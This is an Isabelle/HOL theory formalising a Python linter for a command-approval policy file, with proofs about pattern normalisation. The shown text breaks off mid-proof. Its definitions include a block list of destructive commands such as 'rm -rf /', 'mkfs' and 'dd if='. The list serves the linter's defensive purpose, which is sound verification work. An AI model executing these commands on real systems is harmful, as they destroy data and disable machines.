(* ===== verification/Policylint.thy ===== *)
theory Policylint
  imports Host
begin

text \<open>
  \<open>installer/policy_lint.py\<close>: the linter of \<open>policy.yaml\<close>, on the parsed document, and what its verdict means for the
  engine that reads the same file (\<open>Policy\<close>). The hint of a finding is left out, it is only printed. The standard
  library's \<open>fnmatch.translate\<close> drops a reversed range itself and what it returns always compiles, so the branch for
  \<open>re.error\<close> is never taken.
\<close>

subsection \<open>Findings\<close>

datatype severity = SevError | SevWarning

record lint =
  l_severity :: severity
  l_location :: string
  l_message :: string

definition err :: "string \<Rightarrow> string \<Rightarrow> lint" where
  "err location message = \<lparr>l_severity = SevError, l_location = location, l_message = message\<rparr>"

definition warn :: "string \<Rightarrow> string \<Rightarrow> lint" where
  "warn location message = \<lparr>l_severity = SevWarning, l_location = location, l_message = message\<rparr>"

definition lint_line :: "lint \<Rightarrow> string" where
  "lint_line f = (if l_severity f = SevError then ''ERROR  '' else ''WARNING'') @ '' '' @ l_location f @ '': '' @ l_message f"

definition OVERBROAD_PATTERNS :: "string list" where
  "OVERBROAD_PATTERNS = [''*'', ''**'', ''**/*'', ''*/*'', ''/**'', ''/*'', ''~/**/*'']"

definition PROTECTED_PATHS :: "string list" where
  "PROTECTED_PATHS = [''/etc/**'', ''/boot/**'', ''/sys/**'', ''/proc/**'', ''/dev/**'', ''/System/**'',
     ''C:'' @ [CHR 0x5C] @ ''Windows'' @ [CHR 0x5C] @ ''**'', ''C:'' @ [CHR 0x5C] @ ''Program Files'' @ [CHR 0x5C] @ ''**'']"

definition DESTRUCTIVE_COMMANDS :: "string list" where
  "DESTRUCTIVE_COMMANDS = [''rm -rf /'', ''rm -rf /*'', ''mkfs'', ''format'', ''dd if='', ''shutdown'', ''reboot'']"

definition RECOMMENDED_BLOCK_COMMANDS :: "string list" where
  "RECOMMENDED_BLOCK_COMMANDS = [''rm -rf /'', ''mkfs*'', ''shutdown*'']"

definition REQUIRED_SECTIONS :: "string list" where
  "REQUIRED_SECTIONS = [''auto_allow'', ''require_confirm'', ''block'']"

subsection \<open>Patterns and their places\<close>

definition normalise :: "string \<Rightarrow> string" where
  "normalise p = lower (strip (slashes p))"

definition as_list :: "pyval \<Rightarrow> pyval list" where
  "as_list v = (case v of PNone \<Rightarrow> [] | PList xs \<Rightarrow> xs | _ \<Rightarrow> [v])"

function (sequential) walk_patterns :: "pyval \<Rightarrow> string \<Rightarrow> (string \<times> pyval) list"
  and walk_items :: "dict \<Rightarrow> string \<Rightarrow> (string \<times> pyval) list"
  and walk_elems :: "pyval list \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> (string \<times> pyval) list" where
  "walk_patterns (PDict d) pre = walk_items d pre"
| "walk_patterns (PList xs) pre = walk_elems xs 0 pre"
| "walk_patterns PNone pre = []"
| "walk_patterns v pre = [(pre, v)]"
| "walk_items [] pre = []"
| "walk_items ((k, v) # d) pre = walk_patterns v (pre @ ''.'' @ k) @ walk_items d pre"
| "walk_elems [] i pre = []"
| "walk_elems (v # vs) i pre = walk_patterns v (pre @ ''['' @ nat_str i @ '']'') @ walk_elems vs (Suc i) pre"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>x. case x of
       Inl (v, p) \<Rightarrow> size v
     | Inr (Inl (d, p)) \<Rightarrow> size_list (size_prod (\<lambda>_. 0) size) d
     | Inr (Inr (vs, i, p)) \<Rightarrow> size_list size vs)") auto

text \<open>The patterns of a section, when it is a mapping.\<close>

definition section_patterns :: "dict \<Rightarrow> string \<Rightarrow> (string \<times> pyval) list" where
  "section_patterns doc sec = (case dget doc sec of PDict d \<Rightarrow> walk_patterns (PDict d) sec | _ \<Rightarrow> [])"

text \<open>How \<open>fnmatch.translate\<close> cuts the body of a bracket into the pieces between its ranges, and drops the reversed ones.\<close>

fun range_chunks :: "string \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string list" where
  "range_chunks acc n [] = [acc]"
| "range_chunks acc n (c # cs) =
     (if n = 0 \<and> c = CHR ''-'' then acc # range_chunks [] 2 cs else range_chunks (acc @ [c]) (n - 1) cs)"

definition close_chunks :: "string list \<Rightarrow> string list" where
  "close_chunks cs = (if last cs = [] \<and> tl cs \<noteq> [] then butlast (butlast cs) @ [last (butlast cs) @ ''-''] else cs)"

definition join_range :: "string \<Rightarrow> string list \<Rightarrow> string list" where
  "join_range x ys = (case ys of [] \<Rightarrow> [x]
     | y # ys \<Rightarrow> if code (last x) > code (hd y) then (butlast x @ tl y) # ys else x # y # ys)"

definition class_chunks :: "string \<Rightarrow> string list" where
  "class_chunks body = foldr join_range (close_chunks (range_chunks [] (if hd body = CHR ''!'' then 2 else 1) body)) []"

definition dead_class :: "string \<Rightarrow> bool" where
  "dead_class body = (let cs = class_chunks body in cs = [[]] \<or> list_ex (contains ''(?!)'') cs)"

function class_bodies :: "string \<Rightarrow> string list" where
  "class_bodies [] = []"
| "class_bodies (c # cs) = (if c = CHR ''['' then (case split_close cs of None \<Rightarrow> class_bodies cs
     | Some (body, rest) \<Rightarrow> body # class_bodies rest) else class_bodies cs)"
  by pat_completeness auto
termination
  by (relation "measure length") (auto dest: split_close_length)

definition never_matches :: "string \<Rightarrow> bool" where
  "never_matches p = list_ex dead_class (class_bodies p)"

subsection \<open>The checks\<close>

definition check_sections :: "dict \<Rightarrow> lint list" where
  "check_sections doc = concat (map (\<lambda>sec. case map_of doc sec of
       None \<Rightarrow> [err sec ''section is missing'']
     | Some (PDict _) \<Rightarrow> []
     | Some _ \<Rightarrow> [err sec ''section is not a mapping'']) REQUIRED_SECTIONS)"

fun check_pattern :: "string \<times> pyval \<Rightarrow> lint list" where
  "check_pattern (location, PStr p) =
     (if strip p = [] then [err location ''pattern is empty'']
      else if never_matches p then [err location (''pattern '' @ repr_str p @ '' can never match anything'')]
      else [])"
| "check_pattern (location, v) = [err location (''pattern is '' @ type_name v @ '', not a string'')]"

definition check_patterns :: "dict \<Rightarrow> lint list" where
  "check_patterns doc = concat (map (\<lambda>sec. concat (map check_pattern (section_patterns doc sec))) REQUIRED_SECTIONS)"

definition strings_in :: "pyval list \<Rightarrow> string list" where
  "strings_in vs = List.map_filter (\<lambda>v. case v of PStr s \<Rightarrow> Some s | _ \<Rightarrow> None) vs"

definition no_touch_list :: "dict \<Rightarrow> pyval list" where
  "no_touch_list block = (case py_or (dget block ''paths'') (PDict []) of
     PDict d \<Rightarrow> as_list (dget d ''absolute_no_touch'') | _ \<Rightarrow> [])"

definition covered_by :: "string list \<Rightarrow> string \<Rightarrow> bool" where
  "covered_by have recommended = (let want = normalise recommended in
     list_ex (\<lambda>pat. pat = want \<or> fnmatchcase (rstrip_char (CHR ''*'') want) pat) have)"

definition check_block_list :: "dict \<Rightarrow> lint list" where
  "check_block_list doc = (case dget doc ''block'' of PDict block \<Rightarrow>
     (let commands = as_list (dget block ''commands''); have = map normalise (strings_in commands) in
      (if commands = [] then [err ''block.commands'' ''block list is empty''] else []) @
      (if no_touch_list block = [] then [warn ''block.paths.absolute_no_touch'' ''no protected paths''] else []) @
      concat (map (\<lambda>r. if covered_by have r then [] else [warn ''block.commands'' (''nothing appears to block '' @ repr_str r)])
        RECOMMENDED_BLOCK_COMMANDS))
     | _ \<Rightarrow> [])"

text \<open>The group of a location: what follows the section, without a final index.\<close>

definition drop_index :: "string \<Rightarrow> string" where
  "drop_index s = (let nl = (s \<noteq> [] \<and> last s = newline); body = (if nl then butlast s else s); r = rev body in
     case r of [] \<Rightarrow> s
     | c # r' \<Rightarrow> (let ds = takeWhile is_digit r'; rest = dropWhile is_digit r' in
         if c = CHR '']'' \<and> ds \<noteq> [] \<and> rest \<noteq> [] \<and> hd rest = CHR ''['' then rev (tl rest) @ (if nl then [newline] else []) else s))"

definition group_of :: "string \<Rightarrow> string" where
  "group_of location = drop_index (if CHR ''.'' \<in> set location then tl (dropWhile (\<lambda>c. c \<noteq> CHR ''.'') location) else location)"

type_synonym seen = "((string \<times> string) \<times> string) list"

fun scan_section :: "(string \<times> pyval) list \<Rightarrow> seen \<Rightarrow> lint list \<times> seen" where
  "scan_section [] seen = ([], seen)"
| "scan_section ((location, v) # ps) seen = (case v of
       PStr p \<Rightarrow>
         if strip p = [] then scan_section ps seen
         else (let key = (group_of location, normalise p) in
           case map_of seen key of
             Some other \<Rightarrow> (case scan_section ps seen of (fs, seen') \<Rightarrow>
               (warn location (''duplicate pattern '' @ repr_str p @ '' (also at '' @ other @ '')'') # fs, seen'))
           | None \<Rightarrow> scan_section ps (dict_set seen key location))
     | _ \<Rightarrow> scan_section ps seen)"

definition seen_in :: "dict \<Rightarrow> string \<Rightarrow> seen" where
  "seen_in doc sec = snd (scan_section (section_patterns doc sec) [])"

text \<open>A dict comprehension: the last value of a key wins.\<close>

definition by_pattern :: "(string \<Rightarrow> bool) \<Rightarrow> seen \<Rightarrow> (string \<times> string) list" where
  "by_pattern group_ok seen = fold (\<lambda>((group, pattern), location) d. if group_ok group then dict_set d pattern location else d) seen []"

definition check_contradictions :: "dict \<Rightarrow> lint list" where
  "check_contradictions doc =
     (let blocked_paths = by_pattern (starts_with ''paths'') (seen_in doc ''block'');
          blocked_commands = by_pattern (\<lambda>g. g = ''commands'') (seen_in doc ''block'');
          clashes = (\<lambda>((group, pattern), location).
            case map_of (if group = ''commands'' then blocked_commands else blocked_paths) pattern of None \<Rightarrow> []
            | Some clash \<Rightarrow> [err location (''pattern also appears in '' @ clash)]);
          auto = seen_in doc ''auto_allow'' in
      concat (map (\<lambda>sec. fst (scan_section (section_patterns doc sec) [])) REQUIRED_SECTIONS) @
      concat (map (\<lambda>sec. concat (map clashes (seen_in doc sec))) [''auto_allow'', ''require_confirm'']) @
      concat (map (\<lambda>(key, location). case map_of auto key of None \<Rightarrow> []
        | Some other \<Rightarrow> [warn location (''pattern also appears in '' @ other)]) (seen_in doc ''require_confirm'')))"

fun dangerous_pattern :: "string \<Rightarrow> string \<times> pyval \<Rightarrow> lint list" where
  "dangerous_pattern sec (location, PStr p) =
     (if strip p = [] then [] else
      (let key = normalise p in
       (if key \<in> set OVERBROAD_PATTERNS then [warn location (''pattern '' @ repr_str p @ '' matches everything'')] else []) @
       (if key \<in> normalise ` set PROTECTED_PATHS then [err location (''system path '' @ repr_str p @ '' is reachable from '' @ sec)] else []) @
       (if sec = ''auto_allow''
        then concat (map (\<lambda>d. if fnmatchcase (normalise d) key then [err location (''pattern '' @ repr_str p @ '' auto-allows '' @ repr_str d)] else [])
          DESTRUCTIVE_COMMANDS)
        else [])))"
| "dangerous_pattern sec (location, v) = []"

text \<open>The code goes through a set of missing paths, here they come in the order of \<open>PROTECTED_PATHS\<close>.\<close>

definition check_dangerous :: "dict \<Rightarrow> lint list" where
  "check_dangerous doc =
     concat (map (\<lambda>sec. concat (map (dangerous_pattern sec) (section_patterns doc sec))) [''auto_allow'', ''require_confirm'']) @
     (case dget doc ''block'' of PDict block \<Rightarrow>
        (let no_touch = (case dget block ''paths'' of PDict d \<Rightarrow> map normalise (strings_in (as_list (dget d ''absolute_no_touch''))) | _ \<Rightarrow> []) in
         concat (map (\<lambda>missing. if missing \<in> set no_touch \<or> missing \<in> {''/sys/**'', ''/proc/**'', ''/dev/**''} then []
           else [warn ''block.paths.absolute_no_touch'' (missing @ '' is not protected'')]) (map normalise PROTECTED_PATHS)))
      | _ \<Rightarrow> [])"

fun as_number :: "pyval \<Rightarrow> rat option" where
  "as_number (PFloat r) = Some r"
| "as_number v = map_option of_int (as_int v)"

definition low_number :: "string \<Rightarrow> pyval \<Rightarrow> lint list" where
  "low_number location v = (case as_number v of None \<Rightarrow> []
     | Some r \<Rightarrow> if r \<le> 0 then [err location (''must be positive, got '' @ py_str v)] else [])"

definition bad_choice :: "string \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> pyval \<Rightarrow> lint list" where
  "bad_choice location what allowed v =
     (if lower (py_str v) \<in> set allowed then [] else [err location (''unknown '' @ what @ '' '' @ py_repr v)])"

definition SANDBOX_LEVELS :: "string list" where "SANDBOX_LEVELS = [''none'', ''light'', ''strict'']"

definition check_settings :: "dict \<Rightarrow> lint list" where
  "check_settings doc =
     (case dget doc ''polling'' of PDict polling \<Rightarrow>
        low_number ''polling.interval_seconds'' (dget polling ''interval_seconds'') @
        (case as_int (dget polling ''max_concurrent_tasks'') of None \<Rightarrow> []
         | Some n \<Rightarrow> if n < 1 then [err ''polling.max_concurrent_tasks'' (''must be at least 1, got '' @ py_str (dget polling ''max_concurrent_tasks''))] else [])
      | _ \<Rightarrow> []) @
     (case dget doc ''approval'' of PDict approval \<Rightarrow>
        (if dget approval ''mode'' = PNone then [] else bad_choice ''approval.mode'' ''mode'' [''local'', ''notification'', ''remote''] (dget approval ''mode'')) @
        low_number ''approval.timeout_seconds'' (dget approval ''timeout_seconds'')
      | _ \<Rightarrow> []) @
     (case dget doc ''sandbox'' of PDict sandbox \<Rightarrow>
        (if dget sandbox ''default'' = PNone then [] else bad_choice ''sandbox.default'' ''level'' SANDBOX_LEVELS (dget sandbox ''default'')) @
        (case dget sandbox ''per_kind'' of PDict per_kind \<Rightarrow>
           concat (map (\<lambda>(kind, level). bad_choice (''sandbox.per_kind.'' @ kind) ''level'' SANDBOX_LEVELS level) per_kind)
         | _ \<Rightarrow> [])
      | _ \<Rightarrow> []) @
     (case dget doc ''health'' of PDict health \<Rightarrow>
        (let host = py_str (dget_or health ''host'' (PStr ''127.0.0.1'')) in
         if truthy (dget health ''enabled'') \<and> host \<notin> {''127.0.0.1'', ''localhost'', ''::1''}
         then [warn ''health.host'' (''endpoint bound to '' @ repr_str host @ '', not loopback'')] else [])
      | _ \<Rightarrow> [])"

definition lint_document :: "pyval \<Rightarrow> lint list" where
  "lint_document v = (case v of PDict doc \<Rightarrow>
       check_sections doc @ check_patterns doc @ check_block_list doc @ check_contradictions doc @ check_dangerous doc @ check_settings doc
     | _ \<Rightarrow> [err ''policy'' ''top level is not a mapping''])"

subsection \<open>The command\<close>

definition EXIT_OK :: nat where "EXIT_OK = 0"
definition EXIT_WARN :: nat where "EXIT_WARN = 1"
definition EXIT_ERROR :: nat where "EXIT_ERROR = 2"

definition exit_code_for :: "lint list \<Rightarrow> nat" where
  "exit_code_for fs = Max (set (EXIT_OK # map (\<lambda>f. if l_severity f = SevError then EXIT_ERROR else EXIT_WARN) fs))"

text \<open>\<open>None\<close> is a file that is not there, \<open>Inl\<close> one that cannot be read or is no YAML.\<close>

definition lint_file :: "string \<Rightarrow> (string + pyval) option \<Rightarrow> lint list" where
  "lint_file path file = (case file of None \<Rightarrow> [err path ''file not found'']
     | Some (Inl e) \<Rightarrow> [err path (''YAML does not parse: '' @ e)]
     | Some (Inr doc) \<Rightarrow> lint_document doc)"

definition lint_main :: "bool \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> (string + pyval) option \<Rightarrow> string list \<times> nat" where
  "lint_main quiet strict path file =
     (let fs = lint_file path file; errors = filter (\<lambda>f. l_severity f = SevError) fs; warnings = filter (\<lambda>f. l_severity f = SevWarning) fs in
      (map lint_line (if quiet then errors else errors @ warnings) @
       [[newline] @ path @ '': '' @ nat_str (length errors) @ '' error(s), '' @ nat_str (length warnings) @ '' warning(s)''] @
       (if errors = [] \<and> warnings = [] then [''policy looks sane''] else []),
       if strict \<and> warnings \<noteq> [] then EXIT_ERROR else exit_code_for fs))"


subsection \<open>What the engine makes of the document\<close>

text \<open>The lists \<open>PolicyEngine.decide\<close> iterates over. A string is iterated character by character, a mapping over its
  keys; \<open>None\<close> stands for a document on which \<open>decide\<close> may raise.\<close>

definition rule_list :: "pyval \<Rightarrow> string list option" where
  "rule_list v = (case v of PList xs \<Rightarrow> if list_all is_pstr xs then Some (strings_in xs) else None
     | PStr s \<Rightarrow> Some (map (\<lambda>c. [c]) s)
     | PDict d \<Rightarrow> Some (map fst d)
     | _ \<Rightarrow> None)"

definition rules_at :: "dict \<Rightarrow> string \<Rightarrow> string list option" where
  "rules_at sec k = rule_list (dget_or sec k (PList []))"

definition path_rules_at :: "dict \<Rightarrow> string \<Rightarrow> string list option" where
  "path_rules_at sec k = (case dget_or sec ''paths'' (PDict []) of PDict d \<Rightarrow> rules_at d k | _ \<Rightarrow> None)"

definition section_of :: "dict \<Rightarrow> string \<Rightarrow> dict option" where
  "section_of doc sec = as_dict (dget_or doc sec (PDict []))"

definition policy_of :: "dict \<Rightarrow> policy option" where
  "policy_of doc = (case (section_of doc ''block'', section_of doc ''require_confirm'', section_of doc ''auto_allow'') of
     (Some b, Some c, Some a) \<Rightarrow>
       (case (rules_at b ''commands'', path_rules_at b ''absolute_no_touch'', rules_at c ''commands'', path_rules_at c ''write'',
              rules_at a ''commands'', path_rules_at a ''read'') of
          (Some bc, Some bp, Some cc, Some cw, Some ac, Some ar) \<Rightarrow>
            Some \<lparr>block_commands = bc, block_paths = bp, confirm_commands = cc, confirm_write = cw, auto_commands = ac, auto_read = ar\<rparr>
        | _ \<Rightarrow> None)
     | _ \<Rightarrow> None)"

text \<open>The command lists are written as lists.\<close>

definition listed :: "dict \<Rightarrow> bool" where
  "listed doc = list_all (\<lambda>sec. case dget doc sec of PDict d \<Rightarrow> is_plist (dget_or d ''commands'' (PList [])) | _ \<Rightarrow> False)
     [''block'', ''auto_allow'']"

subsection \<open>Patterns under normalisation\<close>

definition glob_tok :: "char \<Rightarrow> gtok" where
  "glob_tok c = (if c = CHR ''*'' then GStar else if c = CHR ''?'' then GAny else GLit c)"

definition unbracketed :: "string \<Rightarrow> bool" where
  "unbracketed p = (CHR ''['' \<notin> set p)"

lemma glob_parse_unbracketed: "unbracketed p \<Longrightarrow> glob_parse p = map glob_tok p"
  by (induction p) (auto simp: unbracketed_def glob_tok_def)

lemma glob_tok_match:
  "glob_match (glob_tok c # ts) s = (if c = CHR ''*'' then \<exists>a b. s = a @ b \<and> glob_match ts b
     else \<exists>x r. s = x # r \<and> (c = CHR ''?'' \<or> c = x) \<and> glob_match ts r)"
  by (cases s) (auto simp: glob_tok_def glob_match_star)

text \<open>A command in normal form is matched by the normal form of every pattern without brackets that matches it.\<close>

lemma glob_match_mono:
  assumes "glob_match (map glob_tok p) s" "\<And>c. c \<in> set s \<Longrightarrow> f c = c" "f (CHR ''*'') = CHR ''*''" "f (CHR ''?'') = CHR ''?''"
    "\<And>c. f c = CHR ''*'' \<Longrightarrow> c = CHR ''*''"
  shows "glob_match (map glob_tok (map f p)) s"
  using assms(1,2)
proof (induction p arbitrary: s)
  case (Cons c p)
  show ?case
  proof (cases "c = CHR ''*''")
    case True
    then obtain a b where ab: "s = a @ b" "glob_match (map glob_tok p) b"
      using Cons.prems(1) unfolding list.map glob_tok_match by auto
    then have "glob_match (map glob_tok (map f p)) b"
      using Cons.prems(2) by (intro Cons.IH) auto
    then show ?thesis
      using True assms(3) ab(1) unfolding list.map glob_tok_match by auto
  next
    case False
    then obtain x r where s: "s = x # r" "glob_match (map glob_tok p) r" "c = CHR ''?'' \<or> c = x"
      using Cons.prems(1) unfolding list.map glob_tok_match by auto
    then have "glob_match (map glob_tok (map f p)) r"
      using Cons.prems(2) by (intro Cons.IH) auto
    then show ?thesis
      using s False assms(4) assms(5)[of c] Cons.prems(2)[of x] unfolding list.map glob_tok_match by auto
  qed
qed simp

lemma glob_match_last:
  "glob_match (map glob_tok (p @ [c])) s \<Longrightarrow> c \<noteq> CHR ''*'' \<Longrightarrow> c \<noteq> CHR ''?'' \<Longrightarrow> s \<noteq> [] \<and> last s = c"
proof (induction p arbitrary: s)
  case Nil
  then show ?case by (cases s) (auto simp: glob_tok_def split: list.splits)
next
  case (Cons d p)
  then show ?case
    unfolding append_Cons list.map glob_tok_match by (fastforce split: if_splits)
qed

definition normal :: "string \<Rightarrow> bool" where
  "normal s = (s \<noteq> [] \<and> \<not> is_space (hd s) \<and> \<not> is_space (last s) \<and> list_all (\<lambda>c. c \<noteq> CHR 0x5C \<and> lower_char c = c) s)"


lemma space_not_wild: "is_space c \<Longrightarrow> c \<noteq> CHR ''*'' \<and> c \<noteq> CHR ''?'' \<and> c \<noteq> CHR ''[''"
  by (auto simp: is_space_def code_def Let_def)

lemma strip_matching:
  assumes "glob_match (map glob_tok p) s" "normal s"
  shows "strip p = p"
proof -
  have "lstrip p = p"
  proof (cases p)
    case (Cons c q)
    then have "\<not> is_space c"
      using assms space_not_wild[of c] unfolding Cons list.map glob_tok_match by (auto simp: normal_def split: if_splits)
    then show ?thesis by (simp add: Cons lstrip_def)
  qed (simp add: lstrip_def)
  moreover have "rstrip p = p"
  proof (cases p rule: rev_cases)
    case (snoc q c)
    then have "\<not> is_space c"
      using assms space_not_wild[of c] glob_match_last[of q c s] by (auto simp: normal_def)
    then show ?thesis by (simp add: snoc rstrip_def)
  qed (simp add: rstrip_def)
  ultimately show ?thesis by (simp add: strip_def)
qed

lemma lower_char_wild: "lower_char c = CHR ''*'' \<longleftrightarrow> c = CHR ''*''" "lower_char c = CHR ''['' \<longleftrightarrow> c = CHR ''[''"
  by (auto simp: lower_char_def code_def Let_def dest: arg_cong[of _ _ "of_char :: char \<Rightarrow> nat"] split: if_splits)

lemma lower_char_query: "lower_char (CHR ''*'') = CHR ''*''" "lower_char (CHR ''?'') = CHR ''?''"
  by code_simp+

definition slash :: "char \<Rightarrow> char" where
  "slash c = (if c = char_of (92::nat) then CHR ''/'' else c)"

lemma slash_wild: "slash (CHR ''*'') = CHR ''*''" "slash (CHR ''?'') = CHR ''?''" "slash c = CHR ''*'' \<Longrightarrow> c = CHR ''*''"
  unfolding slash_def by (code_simp, code_simp) (simp split: if_splits)

lemma slash_bracket: "slash c = CHR ''['' \<Longrightarrow> c = CHR ''[''"
  by (simp add: slash_def split: if_splits)

lemma unbracketed_map: "(\<And>c. f c = CHR ''['' \<Longrightarrow> c = CHR ''['') \<Longrightarrow> unbracketed p \<Longrightarrow> unbracketed (map f p)"
  unfolding unbracketed_def set_map by (metis imageE)

lemma slashes_slash: "slashes = map slash"
  by (rule ext) (simp add: slashes_def slash_def)

lemma fnmatch_normalise:
  assumes "fnmatchcase s p" "unbracketed p" "normal s"
  shows "fnmatchcase s (normalise p)"
proof -
  have bs: "char_of (92::nat) = CHR 0x5C"
    by code_simp
  have m: "glob_match (map glob_tok p) s"
    using assms(1,2) by (simp add: fnmatchcase_def glob_parse_unbracketed)
  have s: "c \<noteq> CHR 0x5C \<and> lower_char c = c" if "c \<in> set s" for c
    using assms(3) that by (auto simp: normal_def list_all_iff)
  have m1: "glob_match (map glob_tok (slashes p)) s"
    unfolding slashes_slash by (rule glob_match_mono[OF m _ slash_wild]) (use s in \<open>auto simp: slash_def bs\<close>)
  have "glob_match (map glob_tok (lower (slashes p))) s"
    unfolding lower_def by (rule glob_match_mono[OF m1 _ lower_char_query lower_char_wild(1)[THEN iffD1]]) (rule s[THEN conjunct2])
  then have "glob_match (map glob_tok (normalise p)) s"
    using strip_matching[OF m1 assms(3)] by (simp add: normalise_def)
  moreover have "unbracketed (lower (slashes p))"
    unfolding lower_def slashes_slash
    by (intro unbracketed_map assms(2)) (use lower_char_wild(2) slash_bracket in blast)+
  ultimately show ?thesis
    using strip_matching[OF m1 assms(3)] by (simp add: fnmatchcase_def glob_parse_unbracketed normalise_def)
qed


subsection \<open>What the verdict is worth\<close>

lemma exit_code_less: "exit_code_for fs < EXIT_ERROR \<longleftrightarrow> (\<forall>f \<in> set fs. l_severity f = SevWarning)"
proof -
  have "l_severity f \<noteq> SevError \<longleftrightarrow> l_severity f = SevWarning" for f
    by (cases "l_severity f") simp_all
  then show ?thesis
    by (auto simp: exit_code_for_def EXIT_OK_def EXIT_WARN_def EXIT_ERROR_def)
qed

lemma exit_code_zero: "exit_code_for fs = EXIT_OK \<longleftrightarrow> fs = []"
proof (cases fs)
  case (Cons f r)
  have "0 < (if l_severity f = SevError then EXIT_ERROR else EXIT_WARN)"
    by (simp add: EXIT_WARN_def EXIT_ERROR_def)
  also have "\<dots> \<le> exit_code_for fs"
    unfolding exit_code_for_def by (intro Max_ge) (simp_all add: Cons)
  finally show ?thesis using Cons by (simp add: EXIT_OK_def)
qed (simp add: exit_code_for_def)

lemma walk_elems_mem: "v \<in> set vs \<Longrightarrow> v = PStr p \<Longrightarrow> \<exists>l. (l, PStr p) \<in> set (walk_elems vs i pre)"
  by (induction vs arbitrary: i) auto

lemma walk_items_mem: "(k, PList xs) \<in> set d \<Longrightarrow> PStr p \<in> set xs \<Longrightarrow> \<exists>l. (l, PStr p) \<in> set (walk_items d pre)"
  by (induction d) (use walk_elems_mem in fastforce)+

lemma section_patterns_mem:
  assumes "dget doc sec = PDict d" "dget_or d k (PList []) = PList xs" "PStr p \<in> set xs"
  shows "\<exists>l. (l, PStr p) \<in> set (section_patterns doc sec)"
proof -
  have "(k, PList xs) \<in> set d"
    using assms(2,3) by (auto simp: dget_or_def dest: map_of_SomeD split: option.splits)
  then show ?thesis
    using walk_items_mem assms(1,3) by (simp add: section_patterns_def)
qed

lemma strings_in_mem: "p \<in> set (strings_in xs) \<longleftrightarrow> PStr p \<in> set xs"
  by (induction xs) (auto simp: strings_in_def List.map_filter_simps split: pyval.splits option.splits)

lemma rule_list_listed: "is_plist v \<Longrightarrow> rule_list v = Some ps \<Longrightarrow> \<exists>xs. v = PList xs \<and> ps = strings_in xs"
  by (cases v) (auto simp: rule_list_def split: if_splits)

lemma policy_of_lists:
  "policy_of doc = Some pol \<Longrightarrow> (\<exists>d. section_of doc ''auto_allow'' = Some d \<and> rules_at d ''commands'' = Some (auto_commands pol)) \<and>
     (\<exists>d. section_of doc ''block'' = Some d \<and> rules_at d ''commands'' = Some (block_commands pol))"
  unfolding policy_of_def by (auto split: option.splits prod.splits)

lemma listed_section:
  assumes "case dget doc sec of PDict d \<Rightarrow> is_plist (dget_or d k (PList [])) | _ \<Rightarrow> False"
    "section_of doc sec = Some e" "rules_at e k = Some ps"
  shows "\<exists>xs. dget doc sec = PDict e \<and> dget_or e k (PList []) = PList xs \<and> ps = strings_in xs"
proof -
  obtain d where d: "dget doc sec = PDict d" "is_plist (dget_or d k (PList []))"
    using assms(1) by (cases "dget doc sec") simp_all
  then have "e = d"
    using assms(2) by (simp add: section_of_def dget_or_def dget_def split: option.splits)
  then show ?thesis
    using rule_list_listed[OF d(2)] assms(3) d(1) by (simp add: rules_at_def)
qed

lemma listed_rules:
  assumes "listed doc" "policy_of doc = Some pol"
  obtains d xs e ys where "dget doc ''auto_allow'' = PDict d" "dget_or d ''commands'' (PList []) = PList xs" "auto_commands pol = strings_in xs"
    "dget doc ''block'' = PDict e" "dget_or e ''commands'' (PList []) = PList ys" "block_commands pol = strings_in ys"
proof -
  obtain d e where d: "section_of doc ''auto_allow'' = Some d" "rules_at d ''commands'' = Some (auto_commands pol)"
    and e: "section_of doc ''block'' = Some e" "rules_at e ''commands'' = Some (block_commands pol)"
    using policy_of_lists[OF assms(2)] by blast
  have l: "case dget doc sec of PDict d \<Rightarrow> is_plist (dget_or d ''commands'' (PList [])) | _ \<Rightarrow> False"
    if "sec \<in> {''auto_allow'', ''block''}" for sec
    using assms(1) that by (auto simp: listed_def)
  show thesis
    using listed_section[OF l d] listed_section[OF l e] that by blast
qed

lemma destructive_normal:
  "cmd \<in> set DESTRUCTIVE_COMMANDS \<Longrightarrow> normal cmd \<and> normalise cmd = cmd \<and> verb_of cmd \<notin> READ_VERBS"
proof -
  have "list_all (\<lambda>cmd. normal cmd \<and> normalise cmd = cmd \<and> verb_of cmd \<notin> READ_VERBS) DESTRUCTIVE_COMMANDS"
    by code_simp
  then show "cmd \<in> set DESTRUCTIVE_COMMANDS \<Longrightarrow> ?thesis"
    by (simp add: list_all_iff)
qed

lemma auto_allow_flagged:
  assumes "(l, PStr p) \<in> set (section_patterns doc ''auto_allow'')" "cmd \<in> set DESTRUCTIVE_COMMANDS" "fnmatchcase cmd p" "unbracketed p"
  shows "\<exists>f \<in> set (check_dangerous doc). l_severity f = SevError"
proof -
  have n: "normal cmd" "normalise cmd = cmd"
    using destructive_normal[OF assms(2)] by simp_all
  have "strip p \<noteq> []"
  proof
    assume "strip p = []"
    moreover have "strip p = p"
      using strip_matching[of p cmd] assms(3,4) n(1) by (simp add: fnmatchcase_def glob_parse_unbracketed)
    ultimately show False using assms(3) n(1) by (simp add: fnmatchcase_def normal_def)
  qed
  moreover have "fnmatchcase (normalise cmd) (normalise p)"
    using fnmatch_normalise[OF assms(3,4) n(1)] n(2) by simp
  ultimately have "err l (''pattern '' @ repr_str p @ '' auto-allows '' @ repr_str cmd) \<in> set (dangerous_pattern ''auto_allow'' (l, PStr p))"
    using assms(2) by (simp add: Let_def) blast
  then have "err l (''pattern '' @ repr_str p @ '' auto-allows '' @ repr_str cmd) \<in> set (check_dangerous doc)"
    using assms(1) unfolding check_dangerous_def by (simp del: dangerous_pattern.simps) blast
  then show ?thesis
    by (rule bexI[rotated]) (simp add: err_def)
qed


text \<open>A policy that lints without a finding blocks the commands every block list should hold, provided its patterns
  are written in the normal form the linter compares in.\<close>

theorem lint_clean_blocks:
  assumes "policy_of doc = Some pol" "listed doc" "list_all (\<lambda>p. normalise p = p) (block_commands pol)"
    "exit_code_for (lint_document (PDict doc)) = EXIT_OK" "r \<in> set RECOMMENDED_BLOCK_COMMANDS"
    "cmd = rstrip_char (CHR ''*'') r" "masked env cmd = cmd"
  shows "fst (decide env pol cmd paths) = BLOCK"
proof -
  have r: "normalise r = r \<and> fnmatchcase (rstrip_char (CHR ''*'') r) r"
    using assms(5) unfolding RECOMMENDED_BLOCK_COMMANDS_def by (elim set_ConsD[THEN disjE]; simp; code_simp)
  obtain e ys where b: "dget doc ''block'' = PDict e" "dget_or e ''commands'' (PList []) = PList ys" "block_commands pol = strings_in ys"
    by (rule listed_rules[OF assms(2,1)])
